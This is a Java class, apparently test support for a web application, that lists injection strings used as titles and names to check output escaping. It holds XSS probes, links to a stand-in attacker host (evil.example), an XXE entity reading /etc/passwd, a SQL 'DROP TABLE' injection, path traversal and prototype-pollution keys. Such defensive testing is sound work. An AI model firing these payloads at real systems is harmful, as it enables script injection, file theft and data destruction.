package org.araxes.app.serve;

import java.util.List;

/** Titles and names as somebody writes them who wants to be more than text. */
public final class Payloads {
  private Payloads() {}

  public static List<String> all() {
    return List.of(
        "<script>window.hit=1</script>",
        "<img src=x onerror=window.hit=1>",
        "<svg onload=window.hit=1>",
        "<svg><script>window.hit=1</script></svg>",
        "\"><script>window.hit=1</script>",
        "'><script>window.hit=1</script>",
        "</title><script>window.hit=1</script>",
        "</textarea><script>window.hit=1</script>",
        "</script><script>window.hit=1</script>",
        "<iframe src=javascript:window.hit=1>",
        "<iframe srcdoc=\"<script>parent.hit=1</script>\">",
        "<object data=javascript:window.hit=1>",
        "<embed src=javascript:window.hit=1>",
        "<a href=javascript:window.hit=1>click</a>",
        "<a href=\"data:text/html,<script>opener.hit=1</script>\">x</a>",
        "<body onload=window.hit=1>",
        "<input autofocus onfocus=window.hit=1>",
        "<details open ontoggle=window.hit=1>",
        "<video><source onerror=window.hit=1></video>",
        "<audio src=x onerror=window.hit=1>",
        "<math><mtext><script>window.hit=1</script></mtext></math>",
        "<style>@import 'http://evil.example/x.css'</style>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<base href=http://evil.example/>",
        "<form action=http://evil.example/><button>go</button></form>",
        "<template><script>window.hit=1</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
        "<img src=http://evil.example/pixel.png>",
        "<marquee onstart=window.hit=1>x</marquee>",
        "<x contenteditable onblur=window.hit=1>x</x>",
        "javascript:window.hit=1",
        "JaVaScRiPt:window.hit=1",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "{{constructor.constructor('window.hit=1')()}}",
        "${window.hit=1}",
        "`;window.hit=1;`",
        "'; window.hit=1; '",
        "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
        "&lt;script&gt;window.hit=1&lt;/script&gt;",
        "&#60;script&#62;window.hit=1&#60;/script&#62;",
        "%3Cscript%3Ewindow.hit=1%3C/script%3E",
        "<!--><script>window.hit=1</script>-->",
        "<![CDATA[<script>window.hit=1</script>]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "=HYPERLINK(\"http://evil.example\")",
        "' OR 1=1; DROP TABLE claim; --",
        "__proto__",
        "constructor",
        "\u202Eevil\u202C right to left",
        "\uD83D\uDCA5 \u0627\u0646\u0641\u062C\u0627\u0631 \u054A\u0561\u0575\u0569\u0575\u0578\u0582\u0576",
        "../../../../etc/passwd",
        "\u0000\u0007\u001b[31mred",
        "half \uD83D of a pair");
  }
}
